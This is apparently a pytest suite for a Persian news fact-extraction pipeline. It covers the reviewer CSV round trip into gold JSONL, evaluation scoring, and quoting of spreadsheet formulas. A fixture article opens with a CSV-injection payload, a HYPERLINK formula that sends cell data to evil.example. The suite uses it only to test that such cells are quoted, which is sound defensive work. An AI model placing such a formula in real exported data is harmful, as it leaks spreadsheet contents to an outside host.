"""The review loop: facts.csv → a reviewer's edits in pandas → gold JSONL → evaluate."""

import json
import shutil

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.evaluate import evaluate, format_report, load_gold
from pipeline.factsheet import quote_formula, quote_formulas, unquote_formula
from pipeline.review import ReviewError, gold_lines, import_review, merge_gold, read_review_csv, ImportSummary
from pipeline.run import run_pipeline

DOC = "001_dc0e3ef97df6e412"
MISSED = "۳۱۰.۸ میلیون دلار"  # a money fact of seed 002, re-added by the reviewer as if it had been missed


@pytest.fixture
def run_dir(seed_run, tmp_path):
    """A copy of the seed run, so each test edits its own facts.csv."""
    return shutil.copytree(seed_run, tmp_path / "out")


def _review(run_dir):
    """What a reviewer does in a spreadsheet, done with pandas: reads the CSV as it is written.

    These reviews are of money and datelines; the rows of other facts are left out of the sheet.
    """
    review = pd.read_csv(run_dir / "facts.csv", encoding="utf-8-sig")
    kept = (review.fact_type == "money") | review.rule_id.str.startswith("header.dateline")
    return review[kept].reset_index(drop=True)


def _save(review, run_dir):
    review.to_csv(run_dir / "facts.csv", index=False, encoding="utf-8-sig")
    return run_dir / "facts.csv"


def _reviewed(run_dir):
    review = _review(run_dir)
    review["verdict"] = review["verdict"].astype(object)
    money = review.fact_type == "money"
    review.loc[money, "verdict"] = "ok"
    wrong = review.index[review.text == "۲۳۵ میلیون دلار"][0]
    review.loc[wrong, "verdict"] = "wrong"
    dated = review.index[(review.doc_id == DOC) & (review.fact_type == "date")][0]
    review.loc[dated, ["date_start", "date_end"]] = "2025-12-11"  # a corrected value, verdict left empty
    missed = review.index[review.text == MISSED][0]
    added = {"doc_id": "002_94cbfc6595e639c6", "fact_type": "money", "text": MISSED,
             "amount": "۳۱۰٫۸ میلیون", "currency": "USD"}
    review = review.drop(index=missed)
    review = pd.concat([review, pd.DataFrame([added | {"amount": 310_800_000}])], ignore_index=True)
    return review


def test_round_trip_export_edit_import_evaluate(run_dir, tmp_path):
    gold_path = tmp_path / "gold" / "review.jsonl"
    summary = import_review(_save(_reviewed(run_dir), run_dir), gold_path)
    gold = load_gold(gold_path)
    by_text = {g["text"]: g for g in gold}

    assert summary.verdicts == {"ok": 3, "wrong": 1, "fixed": 1, "missed": 1}
    assert summary.unreviewed == 2  # the datelines of 000 and 003, articles nobody reviewed
    assert summary.warnings == []
    assert by_text["۲۳۵ میلیون دلار"]["verdict"] == "wrong"
    ranged = by_text["۳۰۰ تا ۴۰۰ میلیون دلار"]
    assert (ranged["verdict"], ranged["amount_min"], ranged["amount_max"], ranged["currency"]) == ("ok", 300_000_000, 400_000_000, "USD")
    fixed = by_text["2025-12-10"]
    assert (fixed["verdict"], fixed["date_start"], fixed["date_end"], fixed["start"], fixed["end"]) == ("fixed", "2025-12-11", "2025-12-11", 6, 16)
    added = by_text[MISSED]
    assert added["verdict"] == "missed" and added["amount"] == 310_800_000
    raw = pd.read_parquet(run_dir / "documents.parquet").set_index("doc_id").at[added["doc"], "text"]
    assert raw[added["start"] : added["end"]] == MISSED  # offsets found in the article

    result = evaluate(gold, pd.read_parquet(run_dir / "facts.parquet"), only_gold_docs=True)
    money, date = result["scores"]["money"], result["scores"]["date"]
    assert (money["gold"], money["predicted"], money["matched"], money["strict"]) == (4, 5, 4, 4)
    assert (date["gold"], date["matched"], date["strict"]) == (1, 1, 0)  # the run still says 2025-12-10
    assert result["rejected"]["lines"] == 1
    [still] = result["rejected"]["still_predicted"]
    assert (still["text"], still["rule_id"]) == ("۲۳۵ میلیون دلار", "money.amount")
    assert "marked wrong by review: 1; still predicted (false positives): 1" in format_report(result)


def test_cli_import_then_evaluate_reports_what_was_marked_wrong(run_dir, tmp_path):
    gold_path = tmp_path / "review.jsonl"
    runner = CliRunner()
    done = runner.invoke(app, ["review", "import", str(_save(_reviewed(run_dir), run_dir)), "--gold", str(gold_path)])
    assert done.exit_code == 0, done.output
    assert "wrong 1" in done.output
    scored = runner.invoke(app, ["evaluate", "--gold", str(gold_path), "--facts", str(run_dir / "facts.parquet"), "--only-gold-docs"])
    assert scored.exit_code == 0, scored.output
    assert "still predicted (false positives): 1" in scored.output
    assert "۲۳۵ میلیون دلار (money.amount)" in scored.output


def test_merging_keeps_existing_lines_and_refuses_a_silent_overwrite(run_dir, tmp_path):
    gold_path = tmp_path / "review.jsonl"
    earlier = {"doc": "000_342ea1a21e0b3a4c", "type": "doc_count", "text": "۱۴ سند", "count": 14, "kind": "سند", "start": 3653, "end": 3659}
    gold_path.write_text(json.dumps(earlier, ensure_ascii=False) + "\n", encoding="utf-8")
    csv = _save(_reviewed(run_dir), run_dir)
    import_review(csv, gold_path)
    first = gold_path.read_text(encoding="utf-8")
    assert earlier in load_gold(gold_path)

    again = import_review(csv, gold_path)  # the same review twice changes nothing
    assert (again.added, again.unchanged) == (0, 6) and gold_path.read_text(encoding="utf-8") == first

    review = _reviewed(run_dir)
    review.loc[review.text == "۲۳۵ میلیون دلار", "verdict"] = "ok"  # a second reviewer disagrees
    _save(review, run_dir)
    with pytest.raises(ReviewError, match="disagrees with the gold file") as disagreement:
        import_review(csv, gold_path)
    assert "gold has {'doc'" in str(disagreement.value)
    assert "'verdict': 'wrong'}, review says" in str(disagreement.value) and str(disagreement.value).endswith("'verdict': 'ok'}")
    assert gold_path.read_text(encoding="utf-8") == first
    replaced = import_review(csv, gold_path, replace=True)
    assert replaced.replaced == 1
    assert {g["text"]: g.get("verdict") for g in load_gold(gold_path)}["۲۳۵ میلیون دلار"] == "ok"


def test_bad_rows_are_named_and_nothing_is_written(run_dir, tmp_path):
    review = _review(run_dir)
    review["verdict"] = review["verdict"].astype(object)
    review.loc[0, "verdict"] = "maybe"
    review.loc[1, ["verdict", "fact_type"]] = ["ok", "moneys"]
    review.loc[2, ["verdict", "date_start"]] = ["ok", "2025-12-13"]  # 001's money row
    review.loc[5, ["verdict", "date_start"]] = ["fixed", "13/12/2025"]  # 003's dateline
    with pytest.raises(ReviewError) as failure:
        import_review(_save(review, run_dir), tmp_path / "g.jsonl")
    assert "row 2: verdict 'maybe'" in str(failure.value) and "row 3: fact_type 'moneys'" in str(failure.value)
    assert "row 4: date_start filled, but not a column of money facts" in str(failure.value)
    assert "row 7: date_start: '13/12/2025' is not a date written YYYY-MM-DD" in str(failure.value)
    assert not (tmp_path / "g.jsonl").exists()


@pytest.mark.parametrize(
    "row, expected",
    [
        ({"fact_type": "doc_count", "text": "۱۴ سند", "count": "۱۴", "kind": "سند"}, {"count": 14, "kind": "سند"}),
        ({"fact_type": "official", "text": "پزشکیان", "name": "مسعود پزشکیان", "title": "رئیس‌جمهور", "country": "ایران"},
         {"name": "مسعود پزشکیان", "title": "رئیس‌جمهور", "country": "ایران", "aliases": ["مسعود پزشکیان", "پزشکیان"]}),
        ({"fact_type": "percent", "text": "۴۴.۹ درصد", "value": "44.9"}, {"value": 44.9}),
        ({"fact_type": "quantity", "text": "۹۰ میلیون نفر", "value": "90,000,000", "unit": "نفر"}, {"value": 90_000_000, "unit": "نفر"}),
        ({"fact_type": "date", "text": "۱۴۰۳", "date_start": "۲۰۲۴/۰۳/۲۰", "date_end": "2025-03-20 00:00:00", "calendar": "jalali", "precision": "year"},
         {"date_start": "2024-03-20", "date_end": "2025-03-20", "calendar": "jalali", "precision": "year"}),
        ({"fact_type": "money", "text": "پول زیادی"}, {"novalue": True}),
    ],
)
def test_every_fact_type_becomes_a_gold_line(row, expected):
    row = {"fact_id": "", "doc_id": "d", "start": "10", "end": str(10 + len(row["text"])), "verdict": "ok", "rule_id": ""} | row
    [line], _ = gold_lines(pd.DataFrame([row], dtype=str))
    assert line == {"doc": "d", "type": row["fact_type"], "text": row["text"], "start": 10, "end": 10 + len(row["text"]), "verdict": "missed"} | expected


def test_ignore_verdict_makes_a_borderline_line():
    row = {"fact_id": "d:percent:0-5", "doc_id": "d", "fact_type": "percent", "text": "نیمی", "start": "0", "end": "4",
           "value": "50", "verdict": "ignore", "rule_id": "percent.half"}
    [line], summary = gold_lines(pd.DataFrame([row], dtype=str))
    assert line["ignore"] is True and line["value"] == 50 and line["rule_id"] == "percent.half"
    merged = merge_gold([], [line], replace=False, summary=ImportSummary())
    assert evaluate(merged, pd.DataFrame([{"doc_id": "d", "fact_type": "percent", "start": 0, "end": 4, "value": 50.0}]))["scores"]["percent"]["predicted"] == 0


def test_a_narrowed_span_is_found_again_in_the_article(run_dir, tmp_path):
    review = _review(run_dir)
    review["verdict"] = review["verdict"].astype(object)
    row = review.index[review.text == "۳۰۰ تا ۴۰۰ میلیون دلار"][0]
    review.loc[row, ["text", "amount", "amount_min", "amount_max"]] = ["۴۰۰ میلیون دلار", 400_000_000, None, None]
    import_review(_save(review, run_dir), tmp_path / "g.jsonl")
    [line] = load_gold(tmp_path / "g.jsonl")
    assert (line["verdict"], line["start"], line["end"], line["amount"]) == ("fixed", 1792, 1807, 400_000_000)
    assert "amount_min" not in line


def test_spreadsheet_saves_with_semicolons_or_in_another_encoding(run_dir, tmp_path):
    review = _reviewed(run_dir)
    review.to_csv(run_dir / "facts.csv", sep=";", index=False, encoding="utf-8")
    assert import_review(run_dir / "facts.csv", tmp_path / "g.jsonl").reviewed == 6
    review.to_csv(run_dir / "facts.csv", index=False, encoding="utf-16")
    with pytest.raises(ReviewError, match="CSV UTF-8"):
        import_review(run_dir / "facts.csv", tmp_path / "g2.jsonl")


def test_a_reviewed_article_with_rows_left_without_verdict_is_warned_about():
    rows = [{"fact_id": f"d:percent:{i}-{i + 1}", "doc_id": "d", "fact_type": "percent", "text": "x", "start": str(i),
             "end": str(i + 1), "value": "1", "verdict": verdict} for i, verdict in enumerate(["ok", "", ""])]
    _, summary = gold_lines(pd.DataFrame(rows, dtype=str))
    assert summary.warnings == ["d: 2 rows without a verdict in a reviewed document; evaluate counts what the run finds there as false positives"]


# an article from the web whose first sentence a spreadsheet would run as a formula
FORMULA_ARTICLE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"کلیک") صادرات ایران به عراق ۲۳۵ میلیون دلار بود و ۱۴ سند همکاری امضا شد.\n'
    "رشد اقتصادی منفی ۲.۸ درصد بود و سهم بازار +۲۰ درصد رشد کرد.\n"
)


@pytest.fixture
def formula_run(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text(FORMULA_ARTICLE, encoding="utf-8")
    run_pipeline(tmp_path / "in", tmp_path / "out")
    return tmp_path / "out"


def _cells(csv):
    return pd.read_csv(csv, encoding="utf-8-sig", dtype=str, keep_default_na=False)


def test_csv_starts_with_the_reviewers_columns_and_writes_whole_numbers_as_integers(formula_run):
    review = _cells(formula_run / "facts.csv")
    assert list(review.columns[:4]) == ["verdict", "fact_type", "text", "amount"]
    assert review.columns.get_loc("count") < review.columns.get_loc("sentence") < review.columns.get_loc("fact_id")
    [count] = review[review.fact_type == "doc_count"].to_dict("records")
    assert (count["count"], count["start"], count["end"], count["sentence_id"]) == ("14", "91", "104", "0")
    assert pq.read_schema(formula_run / "facts.parquet").field("count").type == pa.int64()  # and in the Parquet


def test_csv_quotes_text_a_spreadsheet_would_run_and_leaves_numbers_alone(formula_run):
    review = _cells(formula_run / "facts.csv")
    assert set(review.sentence[review.fact_type != "percent"]) == {"'" + FORMULA_ARTICLE.splitlines()[0]}
    [minus] = review[review.text == "منفی ۲.۸ درصد"].to_dict("records")
    assert minus["value"] == "-2.8"  # a negative number is not a formula


def test_review_import_takes_the_quote_off_again(formula_run, tmp_path):
    review = _cells(formula_run / "facts.csv")
    review["verdict"] = "ok"
    typed = {column: "" for column in review.columns} | {"doc_id": "a", "fact_type": "percent", "text": "'+۲۰ درصد", "value": "20"}
    review = pd.concat([review, pd.DataFrame([typed])], ignore_index=True)
    csv = formula_run / "facts.csv"
    review.to_csv(csv, index=False, encoding="utf-8-sig")
    assert read_review_csv(csv).sentence[0] == FORMULA_ARTICLE.splitlines()[0]

    import_review(csv, tmp_path / "gold.jsonl")
    by_text = {g["text"]: g for g in load_gold(tmp_path / "gold.jsonl")}
    plus = by_text["+۲۰ درصد"]
    assert (plus["verdict"], plus["value"], FORMULA_ARTICLE[plus["start"] : plus["end"]]) == ("missed", 20, "+۲۰ درصد")
    assert by_text["منفی ۲.۸ درصد"]["value"] == -2.8
    assert by_text["۱۴ سند همکاری"]["count"] == 14


@pytest.mark.parametrize("cell", ["=1+2", "+98 21 555", "-", "@SUM(A1)", "\tx", "\rx", "'=quoted by hand", "''+x"])
def test_a_formula_cell_round_trips(cell):
    quoted = quote_formula(cell)
    assert quoted == "'" + cell and unquote_formula(quoted) == cell


@pytest.mark.parametrize("cell", ["'apostrophe first", "متن", "", "2025-12-13", -2.8, 14, None])
def test_other_cells_are_written_and_read_as_they_are(cell):
    assert quote_formula(cell) == cell and unquote_formula(cell) == cell


def test_a_column_is_quoted_as_its_cells_are():
    cells = ["=1+2", "+98 21 555", "-", "@SUM(A1)", "\tx", "\rx", "'=quoted by hand", "''+x", "'apostrophe first", "متن", "", "x=1", None]
    quoted = quote_formulas(pd.Series(cells, dtype=object))
    assert quoted.tolist()[:-1] == [quote_formula(cell) for cell in cells[:-1]]
    assert pd.isna(quoted.iloc[-1])
